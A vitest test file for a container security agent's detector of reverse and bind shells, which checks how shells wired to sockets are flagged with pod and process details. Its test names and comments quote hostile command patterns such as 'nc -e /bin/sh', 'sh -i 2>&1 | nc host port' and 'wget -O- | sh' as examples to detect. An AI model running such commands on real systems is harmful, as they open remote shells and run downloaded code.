import { mkdirSync, mkdtempSync, rmSync, symlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { ContainerInfo, ProcessInfo, SocketInfo } from '../../../../collectors/model.js';
import type { EventContext } from '../../../../agent/events/context.js';
import { DupMemory, dupEvents } from '../../../../agent/events/dup-events.js';
import { listeningIndex, socketEvents } from '../../../../agent/events/socket-events.js';
import { proc, sock } from './fixtures.js';

let root: string;
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'vigil-dup-'));
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

const CID = 'c'.repeat(64);
const container: ContainerInfo = {
  id: CID,
  runtime: 'docker',
  cgroupPath: `/kubepods/besteffort/pod1/${CID}`,
  name: 'k8s_app_web-1',
  image: 'shop/web:2',
  labels: { 'io.kubernetes.pod.name': 'web-5c9d-abcde', 'pod-template-hash': '5c9d', app: 'web' },
  k8s: { namespace: 'shop', pod: 'web-5c9d-abcde', container: 'app' },
};

function ctx(processes: ProcessInfo[], sockets: SocketInfo[]): EventContext {
  return {
    hostname: 'node-1',
    procRoot: root,
    now: () => 1_000,
    process: (pid) => processes.find((p) => p.pid === pid),
    container: (id) => (id === CID ? container : undefined),
    containerOfNetns: () => undefined,
    socketByInode: (inode) => sockets.find((s) => s.inode === inode),
    socketsInNetns: (netns) => sockets.filter((s) => s.netns === netns),
  };
}

describe('dupEvents', () => {
  it('raises one dup per socket for a direct reverse shell, output fd first, with pod and process', () => {
    const s = sock({ inode: 7, pids: [10] });
    const sh = proc({
      pid: 10,
      ppid: 9,
      containerId: CID,
      stdio: [
        { kind: 'socket', inode: 7 },
        { kind: 'socket', inode: 7 },
        { kind: 'socket', inode: 7 },
      ],
    });
    const parent = proc({ pid: 9, comm: 'bash', ppid: 1 });
    const c = ctx([sh, parent], [s]);
    const memory = new DupMemory();
    const [event, ...rest] = dupEvents(sh, c, listeningIndex([s]), memory);
    expect(rest).toEqual([]);
    expect(event).toMatchObject({
      type: 'dup',
      rawres: 1,
      proc: { pid: 10, name: 'sh', ancestors: [{ pid: 9, name: 'bash' }] },
      fd: { type: 'ipv4', sip: '10.0.0.9', sport: 4444, name: '10.0.0.5:40000->10.0.0.9:4444', direction: 'out' },
      container: { id: CID, imageRepository: 'shop/web', imageTag: '2' },
      k8s: { ns: 'shop', podName: 'web-5c9d-abcde', containerName: 'app', workloadKind: 'Deployment', workloadName: 'web' },
    });
    expect(dupEvents(sh, c, listeningIndex([s]), memory)).toEqual([]); // once per (process, socket)
  });

  it("raises the shell's dup after the same pid was seen as nc with the socket (nc -e execs in place)", () => {
    const s = sock({ inode: 7, pids: [10] });
    const stdio = [
      { kind: 'socket', inode: 7 },
      { kind: 'socket', inode: 7 },
      { kind: 'pipe', inode: 3 },
    ] as const;
    const asNc = proc({ pid: 10, comm: 'nc', exe: '/bin/busybox', args: ['nc', 'h', '1', '-e', '/bin/sh'], stdio });
    const asSh = proc({ pid: 10, comm: 'sh', exe: '/bin/busybox', args: ['/bin/sh'], stdio });
    const memory = new DupMemory();
    expect(dupEvents(asNc, ctx([asNc], [s]), new Map(), memory).map((e) => e.proc?.name)).toEqual(['nc']);
    expect(dupEvents(asSh, ctx([asSh], [s]), new Map(), memory).map((e) => e.proc?.name)).toEqual(['sh']);
    expect(dupEvents(asSh, ctx([asSh], [s]), new Map(), memory)).toEqual([]);
  });

  it('marks an accepted socket as inbound (bind shell), still a dup', () => {
    const listen = sock({ inode: 1, state: 'LISTEN', localPort: 4444, remotePort: 0, remoteAddr: '0.0.0.0' });
    const s = sock({ inode: 7, localPort: 4444, remotePort: 50000, pids: [10] });
    const sh = proc({ pid: 10, stdio: [{ kind: 'socket', inode: 7 }, { kind: 'socket', inode: 7 }, { kind: 'none' }] });
    const [event] = dupEvents(sh, ctx([sh], [listen, s]), listeningIndex([listen, s]), new DupMemory());
    expect(event?.fd).toMatchObject({ direction: 'in', sip: '10.0.0.5', sport: 4444, cport: 50000 });
  });

  it('tells an accepted socket by its ports when the listener closed before any scan (nc -l -e sh)', () => {
    const accepted = sock({ inode: 7, localPort: 4444, remotePort: 50000, pids: [10] });
    const sh = proc({ pid: 10, stdio: [{ kind: 'socket', inode: 7 }, { kind: 'socket', inode: 7 }, { kind: 'none' }] });
    expect(dupEvents(sh, ctx([sh], [accepted]), new Map(), new DupMemory())[0]?.fd).toMatchObject({ direction: 'in', lport: 4444 });
    // Connected from an ephemeral port to a fixed one: outbound, a reverse shell.
    const connected = sock({ inode: 8, localPort: 50001, remotePort: 4444, pids: [11] });
    const sh2 = proc({ pid: 11, stdio: [{ kind: 'socket', inode: 8 }, { kind: 'socket', inode: 8 }, { kind: 'none' }] });
    expect(dupEvents(sh2, ctx([sh2], [connected]), new Map(), new DupMemory())[0]?.fd).toMatchObject({ direction: 'out', rport: 4444 });
  });

  it('raises a relayed dup only when the output reaches the socket', () => {
    const s = sock({ inode: 900, pids: [20] });
    const nc = proc({ pid: 20, comm: 'nc' });
    mkdirSync(join(root, '20', 'fd'), { recursive: true });
    symlinkSync('pipe:[301]', join(root, '20', 'fd', '1'));
    symlinkSync('socket:[900]', join(root, '20', 'fd', '3'));
    // wget -O- | sh: sh reads the download on stdin, writes to the terminal.
    const curlSh = proc({
      pid: 10,
      stdio: [
        { kind: 'pipe', inode: 301 },
        { kind: 'tty', path: '/dev/pts/1' },
        { kind: 'tty', path: '/dev/pts/1' },
      ],
    });
    expect(dupEvents(curlSh, ctx([curlSh, nc], [s]), new Map(), new DupMemory())).toEqual([]);
    // sh -i 2>&1 | nc host port: the output goes to the socket.
    const revSh = proc({
      pid: 11,
      stdio: [
        { kind: 'pipe', inode: 555 },
        { kind: 'pipe', inode: 301 },
        { kind: 'pipe', inode: 301 },
      ],
    });
    const [event] = dupEvents(revSh, ctx([revSh, nc], [s]), new Map(), new DupMemory());
    expect(event).toMatchObject({ rawres: 1, fd: { relayPid: 20, relayName: 'nc', rport: 4444 } });
    // sh -c '(echo hi; sleep 20) | nc host port': output to the socket, but nothing to read from it.
    const scriptSh = proc({
      pid: 12,
      stdio: [
        { kind: 'file', path: '/dev/null' },
        { kind: 'pipe', inode: 301 },
        { kind: 'pipe', inode: 301 },
      ],
    });
    expect(dupEvents(scriptSh, ctx([scriptSh, nc], [s]), new Map(), new DupMemory())).toEqual([]);
  });

  it('does not search relays for programs that are not shells or interpreters', () => {
    const s = sock({ inode: 900, pids: [20] });
    mkdirSync(join(root, '20', 'fd'), { recursive: true });
    symlinkSync('pipe:[301]', join(root, '20', 'fd', '1'));
    symlinkSync('socket:[900]', join(root, '20', 'fd', '3'));
    const tar = proc({ pid: 10, comm: 'tar', stdio: [{ kind: 'pipe', inode: 1 }, { kind: 'pipe', inode: 301 }, { kind: 'none' }] });
    expect(dupEvents(tar, ctx([tar, proc({ pid: 20, comm: 'nc' })], [s]), new Map(), new DupMemory())).toEqual([]);
  });
});

describe('socketEvents', () => {
  it('tells connect, accept and listen apart and skips sockets without a peer', () => {
    const listen = sock({ inode: 1, state: 'LISTEN', localAddr: '0.0.0.0', localPort: 8080, remoteAddr: '0.0.0.0', remotePort: 0, pids: [5] });
    const accepted = sock({ inode: 2, localPort: 8080, remoteAddr: '10.1.0.7', remotePort: 51000, pids: [5] });
    const outbound = sock({ inode: 3, localPort: 40000, remoteAddr: '10.1.0.8', remotePort: 5432, pids: [5] });
    const timeWait = sock({ inode: 4, state: 'TIME_WAIT' });
    const server = proc({ pid: 5, comm: 'web' });
    const all = [listen, accepted, outbound, timeWait];
    const events = socketEvents(all, listeningIndex(all), ctx([server], all));
    expect(events.map((e) => [e.type, e.fd?.name, e.proc?.name])).toEqual([
      ['listen', '0.0.0.0:8080', 'web'],
      ['accept', '10.1.0.7:51000->10.0.0.5:8080', 'web'],
      ['connect', '10.0.0.5:40000->10.1.0.8:5432', 'web'],
    ]);
  });
});
